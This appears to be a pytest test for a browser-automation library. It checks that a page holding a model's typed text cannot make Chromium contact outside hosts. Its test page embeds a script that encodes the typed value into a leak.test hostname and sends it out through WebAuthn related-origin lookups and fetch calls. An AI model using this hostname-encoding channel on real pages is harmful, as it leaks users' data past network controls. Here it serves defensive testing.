"""What the browser's own process sends for a page reaches no host that no judged request may go to."""

from __future__ import annotations

from typing import Any

import pytest

from handrail import Session
from handrail.browser.types.network.proxy import Proxy
from tests.browser.proxy import LoggingProxy
from tests.pages import PageServer
from tests.tools.acting import ref

PAGE = """<h1>Notes</h1><input aria-label=Note id=note><script>
// Related origins: the browser fetches https://HOST/.well-known/webauthn.
const ask = host => navigator.credentials.get({publicKey: {challenge: new Uint8Array(32), rpId: host}})
  .catch(error => error.name)
note.oninput = () => { window.answer = ask(note.value + '.leak.test') }
</script>"""


@pytest.mark.browser
async def test_the_browser_itself_connects_nowhere_for_a_page_that_holds_a_models_text(
    serve: PageServer, tmp_path
) -> None:
    serve(PAGE, "/notes")
    home = serve.origin.replace("127.0.0.1", "localhost")
    with LoggingProxy() as upstream:
        options: dict[str, Any] = {"proxy": Proxy(upstream.address, bypass="localhost"), "allow_origins": [home]}
        async with Session(browser="chromium", headless=True, run_dir=tmp_path / "run", **options) as session:
            assert (await session.call("goto", url=f"{home}/notes")).ok
            assert (await session.call_as("model", "click", ref=await ref(session, "h1"))).ok, (
                "from now on requests are judged"
            )
            page = session.tab.page
            for host in ("before", "iban-47"):
                # A page may ask a host while it holds nothing, and spell by many such hosts later.
                await page.evaluate(f"fetch('https://{host}.leak.test/').catch(() => 0)")
                assert await page.evaluate(f"ask('{host}.leak.test')") == "SecurityError"
            asked = list(upstream.asked)
            assert "CONNECT before.leak.test:443" in upstream.asked, "a browser that asks no other host shows nothing"
            assert (await session.call_as("model", "fill", ref=await ref(session, "#note"), value="iban-47")).ok
            assert await page.evaluate("window.answer") == "SecurityError"
            assert (await session.call_as("model", "snapshot")).ok
        assert upstream.asked == asked
